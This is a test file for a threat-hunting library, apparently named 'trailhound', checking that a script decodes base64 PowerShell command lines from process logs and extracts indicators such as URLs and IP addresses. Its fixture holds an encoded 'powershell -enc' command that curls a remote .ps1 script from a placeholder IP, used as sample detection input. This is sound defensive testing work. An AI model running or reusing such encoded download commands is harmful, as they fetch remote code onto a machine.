import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, expect, it } from 'vitest';
import { packageRoot } from '../../lib/paths.ts';

const scratch = mkdtempSync(join(tmpdir(), 'trailhound-library-'));
afterAll(() => rmSync(scratch, { recursive: true }));

/** The package as a script sees it, through its `exports`, with no host anywhere. */
const SCRIPT = `
import { readTableFile, runVerbOn, toRows, writeTableFile } from 'trailhound';
const logs = await readTableFile(process.argv[1]);
const { table: decoded } = await runVerbOn('decode.base64', logs, { column: 'CommandLine' });
const { table: iocs } = await runVerbOn('extract.iocs', decoded, { columns: ['DecodedText'] });
await writeTableFile(iocs, process.argv[2]);
console.log(JSON.stringify(toRows(iocs).map((row) => [row.IoCType, row.Observable])));
`;

it('a script of ten lines decodes, extracts and writes, without a host', () => {
  const encoded = Buffer.from('curl http://198.51.100.7/a.ps1', 'utf16le').toString('base64');
  const input = join(scratch, 'processes.csv');
  const output = join(scratch, 'iocs.csv');
  writeFileSync(
    input,
    `Computer,CommandLine\nws-17.contoso.example,powershell -enc ${encoded}\nws-17.contoso.example,notepad\n`,
  );
  const printed = execFileSync(process.execPath, ['--input-type=module', '-e', SCRIPT, input, output], {
    cwd: packageRoot(),
    encoding: 'utf8',
  });
  expect(JSON.parse(printed)).toEqual(
    expect.arrayContaining([
      ['url', 'http://198.51.100.7/a.ps1'],
      ['ipv4', '198.51.100.7'],
    ]),
  );
  expect(readFileSync(output, 'utf8')).toContain('198.51.100.7');
});
